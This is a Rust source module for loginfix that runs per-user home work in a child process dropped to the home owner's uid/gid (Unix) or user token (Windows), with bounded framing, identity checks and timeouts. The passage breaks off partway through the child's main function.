//! Root working in a user's home as that user. When loginfix runs as root on a home that
//! belongs to someone else, everything inside that home (discovery, reading stores,
//! private copies, the plan, the running-browser check, backups, the edit, restore,
//! pruning) runs in a child process that has become the home's owner before it opens
//! anything there, so a hole in a path check reaches nothing that user could not reach
//! anyway: the kernel is the last line.
//!
//! The parent opens the home (a handle: the child may not be able to walk the path to
//! it, and a path can be swapped), takes the owner's uid and gid from that handle (no
//! name lookup), and re-executes loginfix with the handle as descriptor 3 and a control
//! pipe as descriptor 4, in a session of its own, stdin from `/dev/null`, stdout and
//! stderr pipes, and a cleared environment. The child becomes the user (see
//! `platform::as_user::become_user`), checks that the home's path is the handle it was
//! given, says its ids, runs the job and sends its events and report back in the
//! private framing of [`wire`]. The parent treats all of it as untrusted: bounded frames
//! and stream, control characters taken out, the ids checked, a stopped, silent or
//! flooding child killed and reported. Root keeps what needs root: the machine-wide
//! checks of `doctor`, `--json-out`, the fleet document and the summary.
//!
//! A home owned by root, or whose owner cannot be told, is worked on in this process
//! under the root-holes rules (`confine`).
//!
//! On Windows, SYSTEM (as Intune runs it) works in a user's home with a token for that
//! user, had without their password: their signed-in session's (`WTSQueryUserToken`),
//! else an S4U logon for a local or domain account (see [`windows_runner`] and
//! `platform::token`). The child is started with that token and its stdin as the control
//! pipe; it opens the home by its path, as the user, so Windows checks every access
//! against that user's rights. Where no token can be had (an Entra ID-only account not
//! signed in, a refused logon) the home is worked on here through the handle walk.

pub mod statics;
pub mod wire;

use std::fs::File;
use std::io::{Read, Write};
use std::process::ExitCode;
#[cfg(unix)]
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::mpsc;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use crate::commands::{self, Context, Job};
use crate::events::{Answer, Event, Sink};
use crate::i18n::{t, ta};
use crate::platform::as_user::{self, Ids};
use crate::platform::Layout;
use crate::report::{AnyReport, Exit};
#[cfg(unix)]
use crate::users;
use crate::{interrupt, Fatal};
use wire::{Done, FromChild, Instructions, ReadError, ToChild, Told, WireAnswer, WireEvent};

/// The first argument that makes loginfix the child working in a home.
pub const WORKER_ARG: &str = "--loginfix-home-worker";

/// How long a child that reports to nobody may stay silent before it is taken as hung.
const SILENCE: Duration = Duration::from_secs(600);
/// How long past `--timeout` a child that only reads is given before it is killed.
const READ_GRACE: Duration = Duration::from_secs(5);
/// How long past `--timeout` a child that writes is asked to stop at a boundary, and when
/// it is killed if it has not.
const WRITE_STOP: Duration = Duration::from_secs(60);
const WRITE_KILL: Duration = Duration::from_secs(600);
/// How long a child that has sent its report has to exit.
const EXIT_GRACE: Duration = Duration::from_secs(10);
/// What the child may write to stderr (it writes nothing there unless it fails).
const STDERR_MAX: usize = 1 << 20;
/// How much of that is shown.
const STDERR_SHOWN: usize = 2000;
/// How often the parent looks at the child.
const TICK: Duration = Duration::from_millis(50);

/// Where a home's work runs.
pub enum Place {
    /// In this process (loginfix is the home's owner, or the owner is root or unknown).
    Here,
    /// In a child that becomes the home's owner.
    AsOwner(Owner),
}

/// A home's owner, as the child working in it will be.
pub enum Owner {
    /// Unix: the home's handle (passed down as it is) and the owner's ids, read from it.
    #[cfg(unix)]
    Ids { home: File, uid: u32, gid: u32 },
    /// Windows: a token for the owner without their password, their SID, and how the
    /// token was had.
    #[cfg(windows)]
    Token {
        token: crate::platform::token::Token,
        sid: String,
        how: WindowsRunner,
    },
}

/// Who the child must say it is.
#[derive(Clone, Debug)]
pub enum Expect {
    Ids(u32, u32),
    Sid(String),
}

impl Expect {
    fn matches(&self, ids: &Ids) -> bool {
        match self {
            Expect::Ids(uid, gid) => ids.are(*uid, *gid),
            Expect::Sid(sid) => ids.sid.as_deref() == Some(sid.as_str()),
        }
    }
}

impl std::fmt::Display for Expect {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Expect::Ids(uid, gid) => write!(f, "uid {uid} and gid {gid}"),
            Expect::Sid(sid) => f.write_str(sid),
        }
    }
}

impl Owner {
    fn expect(&self) -> Expect {
        match self {
            #[cfg(unix)]
            Owner::Ids { uid, gid, .. } => Expect::Ids(*uid, *gid),
            #[cfg(windows)]
            Owner::Token { sid, .. } => Expect::Sid(sid.clone()),
        }
    }

    /// Who the owner is, for messages: `uid 1001`, or their SID.
    fn who(&self) -> String {
        match self {
            #[cfg(unix)]
            Owner::Ids { uid, .. } => format!("uid {uid}"),
            #[cfg(windows)]
            Owner::Token { sid, .. } => sid.clone(),
        }
    }

    /// Whether the owner owns the directory `dir`.
    fn owns(&self, dir: &std::path::Path) -> bool {
        let Ok(opened) = as_user::open_dir(dir) else {
            return false;
        };
        match self {
            #[cfg(unix)]
            Owner::Ids { uid, .. } => as_user::handle_owner(&opened).map(|(u, _)| u) == Some(*uid),
            #[cfg(windows)]
            Owner::Token { sid, .. } => {
                crate::platform::token::owner_sid(&opened).as_deref() == Some(sid.as_str())
            }
        }
    }
}

/// Where the work in `layout`'s home runs: as its owner when loginfix is root (SYSTEM on
/// Windows) and the home belongs to a user.
pub fn place(layout: &Layout) -> Place {
    place_noted(layout).0
}

/// [`place`], and a line for `-v` saying which way the home is worked on and why.
pub fn place_noted(layout: &Layout) -> (Place, Option<String>) {
    #[cfg(unix)]
    {
        if !users::running_as_root() {
            return (Place::Here, None);
        }
        let Ok(home) = as_user::open_dir(&layout.home) else {
            return (Place::Here, None);
        };
        match as_user::handle_owner(&home) {
            Some((uid, gid)) if uid != 0 && gid != 0 => (
                Place::AsOwner(Owner::Ids { home, uid, gid }),
                Some(format!(
                    "working in `{}` as its owner (uid {uid}, gid {gid}), in a process of its own",
                    layout.home.display()
                )),
            ),
            _ => (Place::Here, None),
        }
    }
    #[cfg(windows)]
    {
        windows_place(layout)
    }
    #[cfg(not(any(unix, windows)))]
    {
        let _ = layout;
        (Place::Here, None)
    }
}

/// Tests under Wine, where nothing runs as SYSTEM, take the decision SYSTEM would
/// (debug builds only).
#[cfg(windows)]
fn as_system_for_tests() -> bool {
    cfg!(debug_assertions) && std::env::var_os("LOGINFIX_TEST_AS_SYSTEM").is_some()
}

/// As SYSTEM on a Windows home that is a user's: their signed-in session's token, else
/// an S4U logon, else (an Entra ID-only account not signed in, a logon refused) the
/// handle walk in this process.
#[cfg(windows)]
fn windows_place(layout: &Layout) -> (Place, Option<String>) {
    use crate::platform::token;
    if layout.os != crate::platform::Os::Windows || !(token::is_system() || as_system_for_tests()) {
        return (Place::Here, None);
    }
    let Ok(handle) = as_user::open_dir(&layout.home) else {
        return (Place::Here, None);
    };
    let Some(sid) = token::home_sid(&layout.home, &handle) else {
        return (Place::Here, None);
    };
    let kind = token::account_kind(&sid);
    let session = token::session_token(&sid);
    let home = layout.home.display();
    let walk = |why: String| {
        (
            Place::Here,
            Some(format!(
                "working in `{home}` as SYSTEM, through directory handles: {why}"
            )),
        )
    };
    match (windows_runner(true, session.is_some(), kind), session) {
        (WindowsRunner::SessionToken, Some(token)) => (
            Place::AsOwner(Owner::Token {
                token,
                sid: sid.clone(),
                how: WindowsRunner::SessionToken,
            }),
            Some(format!(
                "working in `{home}` as its owner {sid}, with their signed-in session's token"
            )),
        ),
        (WindowsRunner::S4u, _) => match token::s4u_token(&sid, kind) {
            Ok(token) => (
                Place::AsOwner(Owner::Token {
                    token,
                    sid: sid.clone(),
                    how: WindowsRunner::S4u,
                }),
                Some(format!(
                    "working in `{home}` as its owner {sid}, through a logon without their \
                     password (S4U)"
                )),
            ),
            Err(e) => walk(format!("no token could be had for its owner {sid} ({e})")),
        },
        _ => walk(format!(
            "its owner {sid} is not signed in, and an S4U logon is not made for a {kind:?} \
             account"
        )),
    }
}

/// How a run on a home ended.
// One per run: boxing the report would buy nothing.
#[allow(clippy::large_enum_variant)]
pub enum Ran {
    Report(AnyReport),
    /// `fix` on a terminal stopped before changing anything.
    Stopped(Exit),
}

/// Runs `job` on `layout`'s home, telling nobody as it goes (a script, a fleet user):
/// in this process or in a child that is the home's owner (see [`place`]).
pub fn run_one(job: &Job, layout: &Layout, ctx: &Context) -> Result<AnyReport, Fatal> {
    run_placed(job, layout, ctx, place(layout))
}

/// [`run_one`] where the place is already known.
pub fn run_placed(
    job: &Job,
    layout: &Layout,
    ctx: &Context,
    place: Place,
) -> Result<AnyReport, Fatal> {
    match place {
        Place::Here => commands::run_one(job, layout, ctx),
        Place::AsOwner(owner) => {
            match run_as_owner(
                job,
                layout,
                ctx,
                Told::Nobody,
                &mut crate::events::Nobody,
                owner,
            )? {
                Ran::Report(r) => Ok(r),
                Ran::Stopped(exit) => Err(Fatal {
                    exit,
                    ..Fatal::failure(t("worker-stopped-early"))
                }),
            }
        }
    }
}

/// Runs `job` in a child that is `owner` (see [`Owner`]), telling `sink`
/// the events `told` asks for and passing the question's answer down. The machine-wide
/// checks of `doctor` and `fix` are made here, as root, and added to the child's report.
pub fn run_as_owner(
    job: &Job,
    layout: &Layout,
    ctx: &Context,
    told: Told,
    sink: &mut dyn Sink,
    owner: Owner,
) -> Result<Ran, Fatal> {
    backup_dir_for(job, layout, &owner)?;
    let child_ctx_fleet = ctx.fleet;
    let instructions = Instructions {
        job: job.clone(),
        layout: layout.clone().for_root(),
        told,
        lang: crate::i18n::current(),
        fleet: child_ctx_fleet,
        deadline_ms: ctx
            .deadline
            .map(|d| d.saturating_duration_since(Instant::now()).as_millis() as u64),
        undo: ctx.undo.clone(),
        fleet_run: ctx.fleet_run.clone(),
    };
    let ran = Child::start(&owner, &instructions, layout)?.follow(
        job,
        ctx,
        told,
        sink,
        &owner.expect(),
    )?;
    drop(owner);
    match ran {
        Ran::Report(mut report) => {
            own_undo(job, layout, ctx, &mut report);
            if ctx.fleet {
                return Ok(Ran::Report(report));
            }
            Ok(Ran::Report(add_machine(job, layout, report)?))
        }
        ran => Ok(ran),
    }
}

/// The undo command root tells, made here from the backup set's id, never taken from the
/// child (who could write any command for root, or a fleet tool, to run). An id that is
/// not one loginfix makes gives no command.
fn own_undo(job: &Job, layout: &Layout, ctx: &Context, report: &mut AnyReport) {
    let plain = |b: Option<&crate::report::BackupRef>| {
        b.filter(|b| {
            !b.id.is_empty()
                && b.id.len() <= 100
                && b.id
                    .bytes()
                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b'.'))
        })
        .cloned()
    };
    match (job, report) {
        (Job::Clean(o), AnyReport::Clean(r)) => {
            r.undo_command = commands::undo(
                ctx,
                layout,
                &o.backup_dir,
                plain(r.backup.as_ref()).as_ref(),
            );
        }
        (Job::Fix(o), AnyReport::Fix(r)) => {
            r.clean.undo_command = commands::undo(
                ctx,
                layout,
                &o.backup_dir,
                plain(r.clean.backup.as_ref()).as_ref(),
            );
        }
        (Job::Restore(o), AnyReport::Restore(r)) => {
            r.undo_command =
                commands::undo(ctx, layout, &o.backup_dir, plain(r.undo.as_ref()).as_ref());
        }
        _ => {}
    }
}

/// Refuses a `--backup-dir` outside the home that the home's owner does not own: the
/// child, working as that user, could not write it (nor should root write a user's
/// copies where that user cannot reach them). Inside the home, or the user's own, it is
/// passed down as given.
fn backup_dir_for(job: &Job, layout: &Layout, owner: &Owner) -> Result<(), Fatal> {
    let dir = match job {
        Job::Clean(o) => o.backup_dir.as_ref(),
        Job::Fix(o) => o.backup_dir.as_ref(),
        Job::Backups(o) => o.backup_dir.as_ref(),
        Job::Restore(o) => o.backup_dir.as_ref(),
        Job::Browsers(_) | Job::Extensions(_) | Job::Doctor(_) | Job::Request(_) => None,
    };
    let Some(dir) = dir.filter(|d| !d.starts_with(&layout.home)) else {
        return Ok(());
    };
    if owner.owns(dir) {
        return Ok(());
    }
    let who = owner.who();
    Err(Fatal::usage(ta(
        "worker-backup-dir",
        &[
            ("home", &layout.home.display().to_string()),
            ("name", &who),
            ("dir", &dir.display().to_string()),
        ],
    ))
    .hint(ta("worker-backup-dir-hint", &[("name", &who)])))
}

/// The machine-wide findings (checked here, as root) added to a child's `doctor` or `fix`
/// report, as a run in one process has them.
fn add_machine(job: &Job, layout: &Layout, report: AnyReport) -> Result<AnyReport, Fatal> {
    let Some(options) = job.machine_checks() else {
        return Ok(report);
    };
    let machine = commands::doctor::machine(layout, &options)?;
    Ok(match report {
        AnyReport::Doctor(mut d) => {
            commands::doctor::add_machine(&mut d, machine);
            AnyReport::Doctor(d)
        }
        AnyReport::Fix(f) => {
            let guided = matches!(job, Job::Fix(o) if o.guided);
            let mut doctor = f.doctor;
            commands::doctor::add_machine(&mut doctor, machine);
            AnyReport::Fix(Box::new(crate::report::fix::FixReport::new(
                f.clean, doctor, guided,
            )))
        }
        other => other,
    })
}

impl Drop for Child {
    /// A parent that stops following (an error writing its own output, a panic) leaves
    /// no child working behind it.
    fn drop(&mut self) {
        if matches!(self.process.try_wait(), Ok(None)) {
            let _ = self.process.kill();
            let _ = self.process.wait();
        }
    }
}

/// What a child wrote to stderr: the first bytes, and how many in all.
#[derive(Default)]
struct Stderr {
    shown: Mutex<Vec<u8>>,
    total: AtomicUsize,
    /// The pipe's end was read.
    ended: AtomicBool,
}

/// The child's process: started by `Command` (Unix, and the tests' stand-ins), or with a
/// user's token (Windows).
enum Process {
    #[cfg(unix)]
    Std(std::process::Child),
    #[cfg(windows)]
    Token(crate::platform::token::Process),
}

impl Process {
    fn id(&self) -> u32 {
        match self {
            #[cfg(unix)]
            Process::Std(c) => c.id(),
            #[cfg(windows)]
            Process::Token(p) => p.id(),
        }
    }

    fn try_wait(&mut self) -> std::io::Result<Option<std::process::ExitStatus>> {
        match self {
            #[cfg(unix)]
            Process::Std(c) => c.try_wait(),
            #[cfg(windows)]
            Process::Token(p) => p.try_wait(),
        }
    }

    fn kill(&mut self) -> std::io::Result<()> {
        match self {
            #[cfg(unix)]
            Process::Std(c) => c.kill(),
            #[cfg(windows)]
            Process::Token(p) => p.kill(),
        }
    }

    fn wait(&mut self) -> std::io::Result<std::process::ExitStatus> {
        match self {
            #[cfg(unix)]
            Process::Std(c) => c.wait(),
            #[cfg(windows)]
            Process::Token(p) => p.wait(),
        }
    }
}

/// A child working in a home, and what the parent knows of it.
struct Child {
    process: Process,
    /// Closed once the child is done, which tells it the parent has no more to say.
    control: Option<File>,
    frames: mpsc::Receiver<Result<FromChild, ReadError>>,
    stderr: Arc<Stderr>,
    home: std::path::PathBuf,
}

impl Child {
    fn start(owner: &Owner, instructions: &Instructions, layout: &Layout) -> Result<Child, Fatal> {
        let exe = std::env::current_exe()
            .map_err(|e| Fatal::failure(ta("worker-no-exe", &[("reason", &e.to_string())])))?;
        match owner {
            #[cfg(unix)]
            Owner::Ids { home, uid, gid } => {
                let mut cmd = Command::new(exe);
                cmd.arg(WORKER_ARG)
                    .arg(uid.to_string())
                    .arg(gid.to_string());
                Child::spawn(cmd, home, instructions, &layout.home)
            }
            #[cfg(windows)]
            Owner::Token { token, sid, .. } => {
                use crate::platform::token;
                // Only what Windows itself needs: the child reads nothing else of root's.
                let system_root = std::env::var_os("SystemRoot")
                    .unwrap_or_else(|| std::ffi::OsString::from(r"C:\Windows"));
                let mut env = vec![("SystemRoot", system_root.clone())];
                if let Some(drive) = std::env::var_os("SystemDrive") {
                    env.push(("SystemDrive", drive));
                }
                let args = [std::ffi::OsStr::new(WORKER_ARG), std::ffi::OsStr::new(sid)];
                let spawned =
                    token::spawn(token, &exe, &args, &env, std::path::Path::new(&system_root))
                        .map_err(|e| Child::not_started(&layout.home, "start", &e))?;
                Ok(Child::attach(
                    Process::Token(spawned.process),
                    spawned.control,
                    Some(spawned.stdout),
                    Some(spawned.stderr),
                    instructions,
                    &layout.home,
                ))
            }
        }
    }

    fn not_started(shown: &std::path::Path, what: &str, e: &dyn std::fmt::Display) -> Fatal {
        Fatal::failure(ta(
            "worker-not-started",
            &[
                ("home", &shown.display().to_string()),
                ("what", what),
                ("reason", &e.to_string()),
            ],
        ))
    }

    /// Starts `cmd` as the child working in `shown` (the home, for messages), with `home`
    /// as its descriptor 3, and sends it `instructions`.
    #[cfg(unix)]
    fn spawn(
        mut cmd: Command,
        home: &File,
        instructions: &Instructions,
        shown: &std::path::Path,
    ) -> Result<Child, Fatal> {
        let (control_read, control) =
            as_user::pipe().map_err(|e| Child::not_started(shown, "a pipe", &e))?;
        cmd.env_clear()
            .env("PATH", "/usr/bin:/bin")
            .current_dir("/")
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        let mut process = as_user::spawn_worker(&mut cmd, home, &control_read)
            .map_err(|e| Child::not_started(shown, "start", &e))?;
        drop(control_read);
        let stdout = process.stdout.take();
        let stderr = process.stderr.take();
        Ok(Child::attach(
            Process::Std(process),
            control,
            stdout,
            stderr,
            instructions,
            shown,
        ))
    }

    /// Sends a started child its instructions and reads what it says, on threads of
    /// their own.
    fn attach(
        process: Process,
        mut control: File,
        mut stdout: Option<impl Read + Send + 'static>,
        mut stderr_pipe: Option<impl Read + Send + 'static>,
        instructions: &Instructions,
        shown: &std::path::Path,
    ) -> Child {
        // A child that could not take them has ended: reading its output says how.
        let _ = control.write_all(wire::MAGIC).and_then(|()| {
            wire::write(&mut control, &ToChild::Run(Box::new(instructions.clone())))
        });
        // Windows: the pipe's buffer holds all the parent ever sends after this.
        let _ = as_user::nonblocking(&control);
        // A few messages ahead at most: the child waits while the parent is busy (asking
        // the person), rather than the parent's memory filling.
        let (tx, frames) = mpsc::sync_channel(2);
        std::thread::spawn(move || {
            statics::bound_new_names(statics::NEW_PER_CHILD);
            let Some(out) = stdout.as_mut() else { return };
            let mut out = std::io::BufReader::new(out);
            if let Err(e) = wire::read_magic(&mut out) {
                let _ = tx.send(Err(if e.kind() == std::io::ErrorKind::UnexpectedEof {
                    ReadError::End
                } else {
                    ReadError::Invalid(e.to_string())
                }));
                return;
            }
            let mut budget = wire::MAX_STREAM;
            loop {
                let frame = wire::read::<FromChild>(&mut out, &mut budget);
                let end = frame.is_err();
                if tx.send(frame).is_err() || end {
                    return;
                }
            }
        });
        let stderr = Arc::new(Stderr::default());
        let kept = stderr.clone();
        std::thread::spawn(move || {
            let Some(err) = stderr_pipe.as_mut() else {
                kept.ended.store(true, Ordering::Relaxed);
                return;
            };
            let mut buf = [0u8; 8192];
            while let Ok(n) = err.read(&mut buf) {
                if n == 0 {
                    break;
                }
                // Past what is shown the rest is only counted (no lock to contend for),
                // and read until the child is killed.
                let before = kept.total.fetch_add(n, Ordering::Relaxed);
                if before < STDERR_SHOWN {
                    let mut shown = kept.shown.lock().unwrap_or_else(|e| e.into_inner());
                    let room = STDERR_SHOWN.saturating_sub(shown.len());
                    shown.extend_from_slice(&buf[..n.min(room)]);
                }
            }
            kept.ended.store(true, Ordering::Relaxed);
        });
        Child {
            process,
            control: Some(control),
            frames,
            stderr,
            home: shown.to_path_buf(),
        }
    }

    /// The process's own words on stderr, made safe to print (once they have all come,
    /// or after a second: something it left may hold its stderr open).
    fn stderr_tail(&self) -> String {
        let until = Instant::now() + Duration::from_secs(1);
        while !self.stderr.ended.load(Ordering::Relaxed) && Instant::now() < until {
            std::thread::sleep(Duration::from_millis(1));
        }
        let shown = self.stderr.shown.lock().unwrap_or_else(|e| e.into_inner());
        let text = String::from_utf8_lossy(&shown);
        let mut v = serde_json::Value::String(text.trim().to_string());
        wire::strip_controls(&mut v);
        v.as_str().unwrap_or_default().to_string()
    }

    fn stderr_flooded(&self) -> bool {
        self.stderr.total.load(Ordering::Relaxed) > STDERR_MAX
    }

    /// Tells the child `msg` without waiting: false when its pipe is full (it stopped
    /// reading). A child gone meanwhile is found by the reading side.
    fn send(&mut self, msg: &ToChild) -> bool {
        match self.control.as_mut().map(|c| wire::write(c, msg)) {
            Some(Err(e)) => e.kind() != std::io::ErrorKind::WouldBlock,
            _ => true,
        }
    }

    /// Its exit status, waiting at most [`EXIT_GRACE`] (`None`: still running).
    fn reap(&mut self) -> Option<std::process::ExitStatus> {
        let until = Instant::now() + EXIT_GRACE;
        // A child that is done exits within a millisecond or two: look often at first.
        let mut pause = Duration::from_micros(200);
        loop {
            match self.process.try_wait() {
                Ok(Some(status)) => return Some(status),
                Ok(None) if Instant::now() < until && !self.stderr_flooded() => {
                    std::thread::sleep(pause);
                    pause = (pause * 2).min(TICK);
                }
                _ => return None,
            }
        }
    }

    fn kill(&mut self, why: String) -> Fatal {
        let _ = self.process.kill();
        let _ = self.process.wait();
        Fatal::failure(ta(
            "worker-killed",
            &[("home", &self.home.display().to_string()), ("reason", &why)],
        ))
        .hint(t("worker-killed-hint"))
    }

    /// Reads the child's messages until it is done, passing events to `sink` and answers
    /// down, and bounding its time.
    fn follow(
        mut self,
        job: &Job,
        ctx: &Context,
        told: Told,
        sink: &mut dyn Sink,
        expect: &Expect,
    ) -> Result<Ran, Fatal> {
        interrupt::install();
        let now = Instant::now();
        // Only reading: killed soon after --timeout. Writing: asked to stop at a boundary
        // a minute after it, killed ten minutes after it.
        let (stop_at, kill_at) = match ctx.deadline {
            Some(d) if job.writes() => (Some(d + WRITE_STOP), Some(d + WRITE_KILL)),
            Some(d) => (None, Some(d + READ_GRACE)),
            None => (None, None),
        };
        let mut hello: Option<Ids> = None;
        let mut last = now;
        let mut interrupt_sent = false;
        // Each question is asked once: a child asking again is not the `fix` it runs.
        let mut asked: Vec<&'static str> = Vec::new();
        // A person's browser wait: silence is the browser staying open, not a hang.
        let mut waiting = false;
        let mut exited: Option<Instant> = None;
        let interrupts = interrupt::count();
        let done = interrupt::catching(|| loop {
            let now = Instant::now();
            if (interrupt::interrupted() || stop_at.is_some_and(|t| now > t)) && !interrupt_sent {
                interrupt_sent = true;
                if !self.send(&ToChild::Interrupt) {
                    return Err(self.kill(t("worker-why-not-reading")));
                }
            }
            if interrupt::count().wrapping_sub(interrupts) >= 2 {
                // A second Ctrl-C: the person means it.
                let _ = self.kill(String::new());
                return Ok(Done::Stopped(Exit::Interrupted as u8));
            }
            if as_user::is_stopped(self.process.id()) {
                return Err(self.kill(t("worker-why-stopped")));
            }
            if self.stderr_flooded() {
                return Err(self.kill(flooded()));
            }
            if kill_at.is_some_and(|t| now > t) {
                return Err(self.kill(t("worker-why-timeout")));
            }
            if !waiting && last.elapsed() > SILENCE {
                return Err(self.kill(ta(
                    "worker-why-silent",
                    &[("n", &(SILENCE.as_secs() / 60).to_string())],
                )));
            }
            // Gone, but something it left holds its output open.
            match exited {
                Some(at) if at.elapsed() > EXIT_GRACE => {
                    return Err(self.kill(t("worker-why-output-open")));
                }
                None if matches!(self.process.try_wait(), Ok(Some(_))) => exited = Some(now),
                _ => {}
            }
            let frame = match self.frames.recv_timeout(TICK) {
                Ok(frame) => frame,
                Err(mpsc::RecvTimeoutError::Timeout) => continue,
                Err(mpsc::RecvTimeoutError::Disconnected) => Err(ReadError::End),
            };
            last = Instant::now();
            match frame {
                Ok(FromChild::Hello(ids)) if hello.is_none() => {
                    if ids.pid != self.process.id() || !expect.matches(&ids) {
                        let said = wire::shorten(&format!("{ids:?}"));
                        return Err(self.kill(ta(
                            "worker-why-not-the-user",
                            &[("name", &expect.to_string()), ("what", &said)],
                        )));
                    }
                    hello = Some(ids);
                }
                Ok(_) if hello.is_none() => {
                    return Err(self.kill(t("worker-why-spoke-first")));
                }
                Ok(FromChild::Hello(_)) => {
                    return Err(self.kill(t("worker-why-hello-twice")));
                }
                Ok(FromChild::Event(e))
                    if !e.belongs(told)
                        || (e.question().is_some() && asked.contains(&e.name())) =>
                {
                    return Err(self.kill(ta("worker-why-event", &[("name", e.name())])));
                }
                Ok(FromChild::Event(e)) => {
                    waiting = matches!(*e, WireEvent::Waiting(_));
                    sink.tell(e.event()).map_err(Fatal::output)?;
                    if let Some(enter_is_yes) = e.question() {
                        asked.push(e.name());
                        let answer = if interrupt_sent {
                            Answer::Interrupted
                        } else {
                            sink.answer(enter_is_yes)?
                        };
                        last = Instant::now();
                        if !self.send(&ToChild::Answer(WireAnswer::from(answer))) {
                            return Err(self.kill(t("worker-why-not-reading")));
                        }
                    }
                }
                Ok(FromChild::Done(done)) => return Ok(*done),
                Err(ReadError::TooMuch) => {
                    return Err(self.kill(ta(
                        "worker-why-too-much",
                        &[
                            ("a", &(wire::MAX_FRAME >> 20).to_string()),
                            ("b", &(wire::MAX_STREAM >> 20).to_string()),
                        ],
                    )));
                }
                Err(ReadError::Invalid(e)) => {
                    return Err(self.kill(ta("worker-why-invalid", &[("reason", &e)])));
                }
                Err(ReadError::End | ReadError::Io(_)) => {
                    // Its output is closed: it should be gone, or going.
                    let Some(status) = self.reap() else {
                        if self.stderr_flooded() {
                            return Err(self.kill(flooded()));
                        }
                        return Err(self.kill(t("worker-why-no-exit")));
                    };
                    let tail = self.stderr_tail();
                    if interrupt_sent && status.code() == Some(interrupt::EXIT_CODE) {
                        return Ok(Done::Stopped(Exit::Interrupted as u8));
                    }
                    let mut fatal = Fatal::failure(ta(
                        "worker-ended",
                        &[
                            ("home", &self.home.display().to_string()),
                            ("reason", &status.to_string()),
                        ],
                    ));
                    if !tail.is_empty() {
                        fatal = fatal.hint(ta("worker-it-said", &[("what", &tail)]));
                    }
                    return Err(fatal);
                }
            }
        })?;
        // Done: it has no more to say, and a little while to go.
        self.control = None;
        if self.reap().is_none() {
            let _ = self.process.kill();
            let _ = self.process.wait();
        }
        match done {
            Done::Report(r) => Ok(Ran::Report(r.into())),
            Done::Stopped(code) => Ok(Ran::Stopped(exit_of(code))),
            Done::Fatal {
                message,
                hints,
                exit,
            } => Err(Fatal {
                exit: exit_of(exit),
                hints,
                ..Fatal::failure(message)
            }),
        }
    }
}

/// Why a child was killed for what it wrote to stderr.
fn flooded() -> String {
    ta(
        "worker-why-flooded",
        &[("n", &(STDERR_MAX >> 20).to_string())],
    )
}

/// An exit code read back, as the `Exit` it is (anything unknown is a failure).
pub fn exit_of(code: u8) -> Exit {
    match code {
        0 => Exit::Success,
        2 => Exit::Usage,
        3 => Exit::BrowserRunning,
        4 => Exit::Unreadable,
        130 => Exit::Interrupted,
        _ => Exit::Failure,
    }
}

static IN_CHILD: std::sync::atomic::AtomicBool = std::sync::atomic::AtomicBool::new(false);

/// Whether this process is root's child working in a home as its owner (hints differ:
/// "run with sudo" means nothing here).
pub fn in_child() -> bool {
    IN_CHILD.load(std::sync::atomic::Ordering::Relaxed)
}

/// The child's side: when loginfix was started as a worker ([`WORKER_ARG`]), becomes the
/// user, runs the job and returns the process's exit code; `None` otherwise.
pub fn child_main() -> Option<ExitCode> {
    let args: Vec<_> = std::env::args_os().collect();
    if args.get(1).map(|a| a.as_os_str()) != Some(std::ffi::OsStr::new(WORKER_ARG)) {
        return None;
    }
    IN_CHILD.store(true, std::sync::atomic::Ordering::Relaxed);
    Some(match child(&args) {
        Ok(()) => ExitCode::SUCCESS,
        Err(why) => {
            // Before the framing is up (or when it is gone): the parent shows stderr.
            let _ = writeln!(std::io::stderr(), "loginfix worker: {why}");
            ExitCode::from(Exit::Failure as u8)
        }
    })
}

/// How the child found the home it was sent to, once it is the user.
#[cfg_attr(not(unix), allow(dead_code))]
enum Found {
    Reachable,
    /// A directory above it is closed to the user (macOS: no mount namespace).
    Closed,
    /// Its path no longer names the directory root opened.
    Moved,
}

/// The child's start on Unix: reads its instructions (from root, trusted) while still
/// root, makes the home reachable, becomes the user and looks at the home's path again.
#[cfg(unix)]
fn enter(args: &[std::ffi::OsString]) -> Result<(Box<Instructions>, File, Ids, Found), String> {
    let number = |i: usize| -> Result<u32, String> {
        args.get(i)
            .and_then(|a| a.to_str())
            .and_then(|a| a.parse().ok())
            .ok_or_else(|| "no uid and gid were given".to_string())
    };
    let (uid, gid) = (number(2)?, number(3)?);
    let home = as_user::inherited(as_user::HOME_FD).ok_or("no home handle was given")?;
    let mut control = as_user::inherited(as_user::CONTROL_FD).ok_or("no control pipe was given")?;
    let run = read_run(&mut control)?;
    as_user::expose_home(&run.layout.home, &home, uid, gid)?;
    let ids = as_user::become_user(uid, gid)?;
    let found = match std::fs::metadata(&run.layout.home) {
        _ if as_user::same_dir(&run.layout.home, &home) => Found::Reachable,
        Err(e) if e.kind() == std::io::ErrorKind::PermissionDenied => Found::Closed,
        _ => Found::Moved,
    };
    Ok((run, control, ids, found))
}

/// The child's start on Windows: started with the user's token by SYSTEM, so it is the
/// user from its first instruction; it checks that it runs as the SID it was started
/// for. Its control pipe is its stdin.
#[cfg(windows)]
fn enter(args: &[std::ffi::OsString]) -> Result<(Box<Instructions>, File, Ids, Found), String> {
    use std::os::windows::io::AsHandle;
    let sid = args
        .get(2)
        .and_then(|a| a.to_str())
        .ok_or("no SID was given")?;
    let ids = as_user::ids();
    if ids.sid.as_deref() != Some(sid) {
        return Err(format!(
            "runs as {}, not as {sid}",
            ids.sid.as_deref().unwrap_or("an unknown account")
        ));
    }
    let mut control = std::io::stdin()
        .as_handle()
        .try_clone_to_owned()
        .map(File::from)
        .map_err(|e| format!("no control pipe was given: {e}"))?;
    let run = read_run(&mut control)?;
    Ok((run, control, ids, Found::Reachable))
}

#[cfg(not(any(unix, windows)))]
fn enter(_: &[std::ffi::OsString]) -> Result<(Box<Instructions>, File, Ids, Found), String> {
    Err("not available on this OS".to_string())
}

/// The parent's instructions: the magic, then one `Run`.
fn read_run(control: &mut File) -> Result<Box<Instructions>, String> {
    wire::read_magic(control).map_err(|e| e.to_string())?;
    let mut budget = wire::MAX_STREAM;
    match wire::read::<ToChild>(control, &mut budget) {
        Ok(ToChild::Run(run)) => Ok(run),
        _ => Err("the parent sent no run".to_string()),
    }
}

fn child(args: &[std::ffi::OsString]) -> Result<(), String> {
    let (run, control, ids, found) = enter(args)?;
    let mut out = std::io::stdout().lock();
    out.write_all(wire::MAGIC).map_err(|e| e.to_string())?;
